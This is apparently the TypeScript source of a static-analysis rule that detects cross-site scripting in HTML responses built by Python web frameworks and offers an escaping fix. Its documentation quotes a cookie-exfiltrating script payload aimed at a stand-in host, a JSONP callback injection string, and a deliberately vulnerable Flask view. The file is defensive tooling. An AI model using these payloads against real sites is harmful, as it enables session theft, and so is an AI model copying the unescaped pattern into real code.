/**
 * ## What it does
 * Flags untrusted data written into an HTML response by Python code: a Flask or Quart view that
 * returns a string (Flask serves it as `text/html`), `make_response(...)` and `flask.Response(...)`
 * (HTML unless another `mimetype` is given), Django `HttpResponse(...)` (HTML by default), Starlette
 * and FastAPI `HTMLResponse(...)` or `Response(..., media_type="text/html")`, aiohttp
 * `web.Response(text=..., content_type="text/html")`, `self.wfile.write(...)` in an
 * `http.server.BaseHTTPRequestHandler`, and the body a WSGI application (`def app(environ,
 * start_response)`) returns or yields, built from `environ` (HTML when its `Content-Type` says so, or
 * when it sends none and the body has tags, which browsers sniff as HTML). A JSONP response, a
 * client-chosen callback name wrapped around data (`f"{callback}({json.dumps(data)})"`), is
 * reported whatever its content type; a callback checked against an identifier pattern is not. Values escaped with `markupsafe.escape`, `html.escape`,
 * Django's `escape`/`format_html` or cleaned with `bleach`/`nh3` are not reported, nor are numbers.
 * JSON responses (`jsonify`, `JsonResponse`, `JSONResponse`), a FastAPI view returning a string (sent
 * as JSON) and responses with a non-HTML content type are not HTML. A value of unknown origin is
 * reported (at low confidence) only inside HTML built by formatting (`f"<p>{text}</p>"`).
 *
 * ## Why is this bad?
 * Whatever the client sent becomes part of the page: `?q=<script>fetch("//evil.example?c="+document.cookie)</script>`
 * runs in the browser of everyone who opens the link (reflected cross-site scripting), with their
 * session. Templates escape values; HTML built in Python does not.
 *
 * ## Example
 * ```python
 * @app.route("/search")
 * def search():
 *     q = request.args.get("q", "")
 *     return f"<h1>Results for {q}</h1>"
 * ```
 *
 * ## Use instead
 * ```python
 * from markupsafe import escape
 *
 * @app.route("/search")
 * def search():
 *     q = request.args.get("q", "")
 *     return f"<h1>Results for {escape(q)}</h1>"
 * ```
 * Better still, render a template (`render_template("search.html", q=q)`), which escapes every value.
 * In Django use `django.utils.html.escape` or `format_html`; elsewhere `html.escape`. A JSONP
 * callback is not escaped but checked: `if not re.fullmatch(r"[A-Za-z_][\w.]*", callback): abort(400)`
 * (better, serve JSON with CORS headers and drop JSONP).
 *
 * ## References
 * - CWE-79: Improper Neutralization of Input During Web Page Generation ('Cross-site Scripting')
 * - CWE-80: Improper Neutralization of Script-Related HTML Tags in a Web Page (Basic XSS)
 * - OWASP Top 10 2021 A03: Injection
 */
import type { Node } from '../../parser/parser';
import type { ModelView } from '../../semantic/model';
import type { Hole } from '../../semantic/strings';
import { ensureImported, ensureModuleImported } from '../../fixes/python';
import { unsafeFix } from '../../fixes/fix';
import {
  argumentsOf,
  argumentValue,
  calledFunction,
  constantString,
  decoratorExpression,
  keywordValue,
  methodName,
  positionalArgument,
} from '../../semantic/calls';
import type { Fix, Rule, RuleContext, TextEdit } from '../../ruleApi/types';
import { describeFlow, flowSteps, judgeTaint, sinkLabelOf, type TaintVerdict } from '../shared';
import { handlerRequestVerdict, requestVerdict, type RequestMatcher } from './httpServerHandler';

type Escaper = 'markupsafe' | 'django' | 'html';

interface Sink {
  /** The value that becomes the body. */
  value: Node;
  /** The node whose position the flow ends at, and its label. */
  at: Node;
  label: string;
  escaper: Escaper;
  /** The response is not served as HTML: only a JSONP callback in it is a finding. */
  scriptOnly?: boolean;
  /** What holds the request where the tracker does not know it (a WSGI app's `environ`). */
  request?: RequestMatcher;
}

/** Response classes that serve HTML unless told otherwise, with the keyword of their body and content type. */
const htmlByDefault: ReadonlyMap<string, { body: string; type: string[]; escaper: Escaper }> = new Map([
  ['flask.make_response', { body: '', type: [], escaper: 'markupsafe' }],
  ['quart.make_response', { body: '', type: [], escaper: 'markupsafe' }],
  ['flask.Response', { body: 'response', type: ['mimetype', 'content_type'], escaper: 'markupsafe' }],
  ['flask.wrappers.Response', { body: 'response', type: ['mimetype', 'content_type'], escaper: 'markupsafe' }],
  ['quart.Response', { body: 'response', type: ['mimetype', 'content_type'], escaper: 'markupsafe' }],
  ['django.http.HttpResponse', { body: 'content', type: ['content_type'], escaper: 'django' }],
  ['django.http.response.HttpResponse', { body: 'content', type: ['content_type'], escaper: 'django' }],
  ['django.http.HttpResponseBadRequest', { body: 'content', type: ['content_type'], escaper: 'django' }],
  ['django.http.HttpResponseNotFound', { body: 'content', type: ['content_type'], escaper: 'django' }],
  ['django.http.HttpResponseForbidden', { body: 'content', type: ['content_type'], escaper: 'django' }],
  ['django.http.HttpResponseServerError', { body: 'content', type: ['content_type'], escaper: 'django' }],
  ['starlette.responses.HTMLResponse', { body: 'content', type: [], escaper: 'html' }],
  ['fastapi.responses.HTMLResponse', { body: 'content', type: [], escaper: 'html' }],
]);

/** Response classes that serve HTML only when their content type says so. */
const htmlWhenTyped: ReadonlyMap<string, { body: string[]; type: string[]; escaper: Escaper }> = new Map([
  ['werkzeug.wrappers.Response', { body: ['response'], type: ['mimetype', 'content_type'], escaper: 'markupsafe' }],
  ['werkzeug.Response', { body: ['response'], type: ['mimetype', 'content_type'], escaper: 'markupsafe' }],
  ['starlette.responses.Response', { body: ['content'], type: ['media_type'], escaper: 'html' }],
  ['fastapi.responses.Response', { body: ['content'], type: ['media_type'], escaper: 'html' }],
  ['fastapi.Response', { body: ['content'], type: ['media_type'], escaper: 'html' }],
  ['aiohttp.web.Response', { body: ['text', 'body'], type: ['content_type'], escaper: 'html' }],
  ['aiohttp.web_response.Response', { body: ['text', 'body'], type: ['content_type'], escaper: 'html' }],
]);

/** Calls a Flask view returns that are not an HTML body written in Python. */
const notHtmlCalls =
  /^(?:flask|quart)\.(?:jsonify|render_template|render_template_string|redirect|send_file|send_from_directory|abort|url_for|stream_template|Response|make_response)$|^json\.dumps$/;

const handlerBases = /(?:^|\.)(?:BaseHTTPRequestHandler|SimpleHTTPRequestHandler|CGIHTTPRequestHandler)$/;

/** What the content type argument says: html, another type, or nothing known. */
function contentType(model: ModelView, call: Node, keywords: readonly string[]): 'html' | 'other' | 'unset' {
  // Headers may set the type: a dict literal is read, anything else may say anything.
  const headers = keywordValue(call, 'headers');
  if (headers) {
    if (headers.type !== 'dictionary') return 'other';
    for (const pair of headers.namedChildren) {
      if (pair?.type !== 'pair') return 'other';
      const key = constantString(model, pair.childForFieldName('key') ?? undefined);
      if (key === undefined) return 'other';
      if (key.toLowerCase() !== 'content-type') continue;
      const value = constantString(model, pair.childForFieldName('value') ?? undefined);
      return value !== undefined && /html/i.test(value) ? 'html' : 'other';
    }
  }
  for (const keyword of keywords) {
    const value = keywordValue(call, keyword);
    if (!value) continue;
    const text = constantString(model, value);
    if (text === undefined) return 'other';
    return /html/i.test(text) ? 'html' : 'other';
  }
  return 'unset';
}

function sinkOfCall(call: Node, model: ModelView): Sink | undefined {
  const callee = model.calleeName(call);
  if (!callee) return undefined;
  const label = sinkLabelOf(call);
  const byDefault = htmlByDefault.get(callee);
  if (byDefault) {
    const scriptOnly = contentType(model, call, byDefault.type) === 'other';
    const value = byDefault.body ? argumentValue(call, 0, byDefault.body) : positionalArgument(call, 0);
    // `make_response(jsonify(...))`, `make_response(render_template(...))`: a response or JSON, not HTML built here.
    if (value?.type === 'call' && notHtmlCalls.test(model.calleeName(value) ?? '')) return undefined;
    return value ? { value, at: call, label, escaper: byDefault.escaper, scriptOnly } : undefined;
  }
  const typed = htmlWhenTyped.get(callee);
  if (typed) {
    const scriptOnly = contentType(model, call, typed.type) !== 'html';
    const value = callee.startsWith('aiohttp')
      ? (keywordValue(call, 'text') ?? keywordValue(call, 'body'))
      : argumentValue(call, 0, typed.body[0]);
    return value ? { value, at: call, label, escaper: typed.escaper, scriptOnly } : undefined;
  }
  return undefined;
}

/** True for an expression a Flask view may return as a text body: strings, names and reads, not dicts or responses. */
function mayBeText(model: ModelView, node: Node, depth = 0): boolean {
  if (depth > 4) return false;
  switch (node.type) {
    case 'string':
    case 'concatenated_string':
    case 'binary_operator':
    case 'subscript':
    case 'attribute':
      return true;
    case 'parenthesized_expression':
      return !!node.namedChildren[0] && mayBeText(model, node.namedChildren[0], depth + 1);
    case 'conditional_expression':
      return node.namedChildren.some(
        (child) => !!child && child.type !== 'comparison_operator' && mayBeText(model, child, depth + 1),
      );
    case 'identifier': {
      const value = model.assignedValue(node);
      return value ? mayBeText(model, value, depth + 1) : model.stringShape(node).isString;
    }
    case 'call': {
      const callee = model.calleeName(node);
      if (callee && notHtmlCalls.test(callee)) return false;
      if (callee === 'builtins.str') return true;
      if (model.stringShape(node).isString) return true;
      return ['get', 'format', 'join', 'replace', 'strip', 'lower', 'upper', 'decode'].includes(methodName(node) ?? '');
    }
    default:
      return false;
  }
}

/** The Flask or Quart application (or blueprint) a view is registered on, by its decorators. */
function isFlaskView(definition: Node, model: ModelView): boolean {
  if (![...model.importedModules].some((m) => /^(?:flask|quart)(?:\.|$)/.test(m))) return false;
  if ([...model.importedModules].some((m) => /^(?:fastapi|starlette)(?:\.|$)/.test(m))) return false;
  for (const decorator of definition.namedChildren) {
    if (decorator?.type !== 'decorator') continue;
    const expression = decoratorExpression(decorator);
    if (expression?.type !== 'call') continue;
    const fn = calledFunction(expression);
    if (fn?.type !== 'attribute') continue;
    if (!['route', 'get', 'post', 'put', 'patch', 'delete'].includes(fn.childForFieldName('attribute')?.text ?? ''))
      continue;
    // An app imported from another module of the project (`from .app import app`) counts; a client does not.
    const receiver = model.resolvedPath(fn.childForFieldName('object'));
    if (receiver && /^(?:requests|httpx|aiohttp|fastapi|starlette|urllib)\b/.test(receiver)) continue;
    return true;
  }
  return false;
}

/** `self.wfile.write(...)` calls in a class, not in nested classes. */
function wfileWrites(body: Node): Node[] {
  const found: Node[] = [];
  const walk = (node: Node) => {
    for (const child of node.namedChildren) {
      if (!child || child.type === 'class_definition') continue;
      if (child.type === 'call' && methodName(child) === 'write') {
        const receiver = calledFunction(child)!.childForFieldName('object');
        if (receiver?.type === 'attribute' && receiver.text.replace(/\s/g, '') === 'self.wfile') found.push(child);
      }
      walk(child);
    }
  };
  walk(body);
  return found;
}

/**
 * A WSGI application, `def app(environ, start_response)` or `__call__(self, environ, start_response)`, by the names
 * PEP 3333 uses (one of them at least); the caller checks that it calls `start_response(status, headers)`.
 */
function wsgiParameters(fn: Node): { environ: string; startResponse: string } | undefined {
  const parameters = (fn.childForFieldName('parameters')?.namedChildren ?? []).filter((p): p is Node => !!p);
  const names = parameters.map((p) => (p.type === 'identifier' ? p.text : undefined));
  const offset = names[0] === 'self' ? 1 : 0;
  const environ = names[offset];
  const startResponse = names[offset + 1];
  if (names.length !== offset + 2 || !environ || !startResponse) return undefined;
  if (environ !== 'environ' && !/start_response/.test(startResponse)) return undefined;
  return { environ, startResponse };
}

const returnStatements: ReadonlySet<string> = new Set(['return_statement']);

/** Nodes of the given types in a function body, not in functions, classes or lambdas nested in it. */
function ownNodes(body: Node, types: ReadonlySet<string>): Node[] {
  const found: Node[] = [];
  const walk = (node: Node) => {
    for (const child of node.namedChildren) {
      if (!child) continue;
      if (child.type === 'function_definition' || child.type === 'class_definition' || child.type === 'lambda')
        continue;
      if (types.has(child.type)) found.push(child);
      walk(child);
    }
  };
  walk(body);
  return found;
}

/** What the `Content-Type` header given to `start_response(status, headers)` says, when the headers are written out. */
function wsgiContentType(model: ModelView, calls: readonly Node[]): 'html' | 'other' | 'unset' {
  const types: ('html' | 'other' | 'unset')[] = calls.map((call) => {
    let headers = argumentValue(call, 1, 'response_headers');
    if (headers?.type === 'identifier') headers = model.assignedValue(headers);
    if (headers?.type !== 'list' && headers?.type !== 'tuple') return 'unset';
    for (const header of headers.namedChildren) {
      if (header?.type !== 'tuple' || header.namedChildren.length !== 2) continue;
      if (constantString(model, header.namedChildren[0] ?? undefined)?.toLowerCase() !== 'content-type') continue;
      const value = constantString(model, header.namedChildren[1] ?? undefined);
      return value === undefined ? 'unset' : /html/i.test(value) ? 'html' : 'other';
    }
    return 'unset';
  });
  if (types.includes('html')) return 'html';
  return types.length > 0 && types.every((type) => type === 'other') ? 'other' : 'unset';
}

/** The text a WSGI body element is encoded from: `f"...".encode()`, `bytes(text, "utf-8")`, a name assigned one. */
function encodedText(model: ModelView, node: Node, depth = 0): Node | undefined {
  if (depth > 4) return undefined;
  if (node.type === 'parenthesized_expression' && node.namedChildren[0])
    return encodedText(model, node.namedChildren[0], depth + 1);
  if (node.type === 'call') {
    if (methodName(node) === 'encode') {
      const text = calledFunction(node)!.childForFieldName('object');
      return text ? (encodedText(model, text, depth + 1) ?? text) : undefined;
    }
    if (model.calleeName(node) === 'builtins.bytes') {
      const text = positionalArgument(node, 0);
      return text ? (encodedText(model, text, depth + 1) ?? text) : undefined;
    }
  }
  if (node.type === 'identifier') {
    const value = model.assignedValue(node);
    if (value?.type === 'call' || value?.type === 'parenthesized_expression')
      return encodedText(model, value, depth + 1);
  }
  return undefined;
}

/** The body elements a WSGI app returns (`return [body]`) or yields, as the text they are encoded from. */
function wsgiBodies(model: ModelView, body: Node): { value: Node; at: Node; label: string }[] {
  const found: { value: Node; at: Node; label: string }[] = [];
  for (const statement of ownNodes(body, new Set(['return_statement', 'yield']))) {
    const value = statement.namedChildren[0];
    if (!value) continue;
    const label = statement.type === 'yield' ? 'yield' : 'return';
    const elements = value.type === 'list' || value.type === 'tuple' ? value.namedChildren : [value];
    for (const element of elements) {
      if (!element) continue;
      const text = encodedText(model, element) ?? element;
      if (model.stringShape(text).isString) found.push({ value: text, at: statement, label });
    }
  }
  return found;
}

const escapers: Record<Escaper, { module: string; call: (text: string, isText: boolean) => string; label: string }> = {
  markupsafe: { module: 'markupsafe', call: (text) => `escape(${text})`, label: 'markupsafe.escape' },
  django: { module: 'django.utils.html', call: (text) => `escape(${text})`, label: 'django.utils.html.escape' },
  html: {
    module: 'html',
    call: (text, isText) => `html.escape(${isText ? text : `str(${text})`})`,
    label: 'html.escape',
  },
};

/** Sources whose values are text (not bytes, not objects), so escaping the whole value keeps its type. */
const textSources =
  /^(?:request\.(?:args|form|values|GET|POST|COOKIES|cookies|headers|query_params|path_params|match_info|query|view_args|rel_url)|route parameter)/;

/** The fix: the escaping function around each value spliced into the HTML, or around the whole value. */
function escapeFix(context: RuleContext, sink: Sink, verdict: TaintVerdict): { fix?: Fix; fixUnavailable?: string } {
  const model = context.model;
  const escaper = escapers[sink.escaper];
  const imports =
    sink.escaper === 'html'
      ? ensureModuleImported(context, 'html', sink.at)
      : ensureImported(context, escaper.module, 'escape', sink.at);
  if (!imports)
    return {
      fixUnavailable: `the name \`${sink.escaper === 'html' ? 'html' : 'escape'}\` is already used for something else in this file`,
    };
  const shape = model.stringShape(sink.value);
  const edits: TextEdit[] = [];
  if (shape.isString && shape.holes.length > 0) {
    if (!shape.exact) return { fixUnavailable: 'the HTML is built in a way the fix cannot rewrite' };
    const seen = new Set<number>();
    for (const hole of shape.holes) {
      if (model.taintOf(hole.expression, 'html').level === 'constant' || seen.has(hole.expression.id)) continue;
      seen.add(hole.expression.id);
      const why = unescapable(hole);
      if (why) return { fixUnavailable: why };
      const isText = model.stringShape(hole.expression).isString || hole.via === 'concat';
      edits.push({
        start: hole.expression.startIndex,
        end: hole.expression.endIndex,
        newText: escaper.call(hole.expression.text, isText),
      });
    }
  } else if (!shape.isString) {
    const label = verdict.taint.source?.label ?? '';
    if (verdict.taint.level !== 'tainted' || !textSources.test(label) || sink.value.id !== verdict.culprit.id)
      return { fixUnavailable: 'the value may not be text (bytes or an object), so escaping it could change its type' };
    edits.push({
      start: sink.value.startIndex,
      end: sink.value.endIndex,
      newText: escaper.call(sink.value.text, true),
    });
  }
  if (edits.length === 0) return { fixUnavailable: 'no value spliced into the HTML can be escaped here' };
  return {
    fix: unsafeFix(`Escape the values with ${escaper.label}`, 'markup in the values is shown as text', [
      ...imports.edits,
      ...edits,
    ]),
  };
}

/** Why a hole cannot be wrapped in an escaping call: a format spec or conversion that needs the original type. */
function unescapable(hole: Hole): string | undefined {
  if (hole.formatted || (hole.conversion && hole.conversion !== 's'))
    return 'a value is formatted with a conversion or format spec that escaping would break';
  if (hole.via === 'join') return 'the values are joined from a list the fix cannot rewrite';
  if (hole.expression.parent?.type === 'keyword_argument') return 'the value is passed by keyword to `.format()`';
  return undefined;
}

/** `Markup(...)`, `mark_safe(...)`: marked safe on purpose, which PSG606 reports. */
const markers =
  /^(?:markupsafe\.Markup|flask\.Markup|jinja2\.Markup|django\.utils\.safestring\.(?:mark_safe|SafeString))$/;

function check(context: RuleContext, sink: Sink): void {
  if (sink.value.type === 'call' && markers.test(context.model.calleeName(sink.value) ?? '')) return;
  if (checkJsonp(context, sink) || sink.scriptOnly) return;
  const verdict = requestData(context, sink) ?? judgeTaint(context, 'html', [sink.value]);
  if (!verdict) return;
  // Unknown origin: only HTML built by formatting is worth a hint.
  if (verdict.taint.level !== 'tainted' && !builtHtml(context.model, sink.value)) return;
  const { fix, fixUnavailable } = escapeFix(context, sink, verdict);
  const lead =
    verdict.taint.level === 'tainted'
      ? `${describeFlow(verdict, sink.label)}, which serves it as HTML`
      : `HTML built from a value that is not escaped reaches \`${sink.label}\``;
  context.report({
    node: sink.value,
    message: `${lead}: markup in it runs in the visitor's browser (cross-site scripting). Escape the values (\`${escapers[sink.escaper].label}\`) or render a template.`,
    confidence: verdict.confidence,
    severity: verdict.severity,
    flow: flowSteps(verdict, sink.at, sink.label),
    fix,
    fixUnavailable,
  });
}

/**
 * A value of unknown origin built from what holds the request where the tracker does not know it: `self.path` in an
 * `http.server` handler, `environ` in a WSGI app. Asked of the tracker first, so that escaped values stay clean.
 */
function requestData(context: RuleContext, sink: Sink): TaintVerdict | undefined {
  const isRequest = sink.request ?? (sink.label === 'self.wfile.write' ? 'handler' : undefined);
  if (!isRequest) return undefined;
  const taint = context.model.taintOf(sink.value, 'html');
  if (taint.level !== 'unknown') return undefined;
  const unknown: TaintVerdict = { culprit: sink.value, taint, confidence: 'low' };
  return isRequest === 'handler'
    ? handlerRequestVerdict(context.model, sink.value, unknown)
    : requestVerdict(context.model, sink.value, unknown, isRequest);
}

/**
 * JSONP: `f"{callback}({json.dumps(data)})"`, a name the client chose called with the data. The callback is script
 * whatever the content type, and escaping it for HTML does not help, so it is reported on its own.
 */
function checkJsonp(context: RuleContext, sink: Sink): boolean {
  const model = context.model;
  const shape = model.stringShape(sink.value);
  if (!shape.isString || shape.parts[0]?.kind !== 'hole' || shape.holes.length < 2) return false;
  // The callback leads, the literal text right after it opens a call (of the data) and the whole ends by closing it.
  if (!/^\([\s\S]*\)\s*;?\s*$/.test(shape.template(''))) return false;
  const callback = shape.parts[0].expression;
  let verdict: TaintVerdict | undefined;
  const taint = model.taintOf(callback, 'code');
  if (taint.level === 'tainted')
    verdict = { culprit: callback, taint, confidence: taint.source?.strength === 'strong' ? 'high' : 'medium' };
  else if (taint.level === 'unknown') {
    const unknown: TaintVerdict = { culprit: callback, taint, confidence: 'low' };
    verdict =
      sink.request !== undefined
        ? requestVerdict(model, callback, unknown, sink.request)
        : sink.label === 'self.wfile.write'
          ? handlerRequestVerdict(model, callback, unknown)
          : undefined;
  }
  if (!verdict) return false;
  context.report({
    node: sink.value,
    message: `${describeFlow(verdict, sink.label)} as the name of a JSONP callback: the client chooses script that runs with this site's origin (\`?callback=alert(document.domain)//\`), and a response served as HTML is open to cross-site scripting as well. Accept only a JavaScript identifier (\`re.fullmatch(r"[A-Za-z_][\\w.]*", callback)\`), or drop JSONP for CORS.`,
    confidence: verdict.confidence,
    flow: flowSteps(verdict, sink.at, sink.label),
    fixUnavailable: 'what to answer to a callback name that is not an identifier depends on the API',
  });
  return true;
}

/** A string built by formatting whose literal text has a tag: HTML assembled in Python. */
function builtHtml(model: ModelView, value: Node): boolean {
  const shape = model.stringShape(value);
  return shape.isString && shape.holes.length > 0 && /<[a-zA-Z!/]/.test(shape.template(''));
}

export const htmlResponseXss: Rule = {
  meta: {
    id: 'PSG614',
    name: 'html-response-xss',
    title: 'Untrusted data in an HTML response built in Python',
    defaultSeverity: 'error',
    cwe: 79,
    owasp: 'A03:2021-Injection',
    checklistItem: 'html-escaped',
    bandit: [],
    ruff: [],
    fixable: true,
    fixes: [
      {
        title: 'Escape the values with <escaping function>',
        applicability: 'unsafe',
        why: 'The page shows `<`, `>`, `&` and quotes in the values as text instead of markup: the bytes sent change, and HTML a value was meant to carry is no longer rendered.',
      },
    ],
  },
  triggers: ['return', 'Response', 'make_response', 'wfile', 'start_response', 'yield'],
  visitors: {
    call(call, context) {
      const sink = sinkOfCall(call, context.model);
      if (sink) check(context, sink);
    },
    decorated_definition(definition, context) {
      const fn = definition.childForFieldName('definition');
      if (fn?.type !== 'function_definition' || !isFlaskView(definition, context.model)) return;
      const body = fn.childForFieldName('body');
      if (!body) return;
      for (const statement of ownNodes(body, returnStatements)) {
        let value = statement.namedChildren[0];
        if (value?.type === 'tuple' || value?.type === 'expression_list') value = value.namedChildren[0];
        if (!value || !mayBeText(context.model, value)) continue;
        check(context, { value, at: statement, label: 'return', escaper: 'markupsafe' });
      }
    },
    function_definition(fn, context) {
      const parameters = wsgiParameters(fn);
      const body = fn.childForFieldName('body');
      if (!parameters || !body) return;
      const model = context.model;
      const starts = ownNodes(body, new Set(['call'])).filter(
        (call) =>
          calledFunction(call)?.type === 'identifier' &&
          calledFunction(call)!.text === parameters.startResponse &&
          argumentsOf(call).length >= 2,
      );
      if (starts.length === 0) return;
      const type = wsgiContentType(model, starts);
      const request: RequestMatcher = (node) => node.type === 'identifier' && node.text === parameters.environ;
      for (const { value, at, label } of wsgiBodies(model, body)) {
        // Without a content type the browser sniffs: HTML built here is taken for HTML.
        const scriptOnly = type === 'other' || (type === 'unset' && !builtHtml(model, value));
        check(context, { value, at, label, escaper: 'html', scriptOnly, request });
      }
    },
    class_definition(definition, context) {
      const bases = definition.childForFieldName('superclasses');
      if (!bases?.namedChildren.some((base) => !!base && handlerBases.test(context.model.qualifiedName(base) ?? '')))
        return;
      const body = definition.childForFieldName('body');
      if (!body) return;
      for (const write of wfileWrites(body)) {
        let value = argumentValue(write, 0, 'b');
        // `"...".encode()`: the text is what was built.
        if (value?.type === 'call' && methodName(value) === 'encode')
          value = calledFunction(value)!.childForFieldName('object') ?? undefined;
        // Bytes relayed as they are (a proxy, a file) are not HTML built here.
        if (value && context.model.stringShape(value).isString)
          check(context, { value, at: write, label: 'self.wfile.write', escaper: 'html' });
      }
    },
  },
};
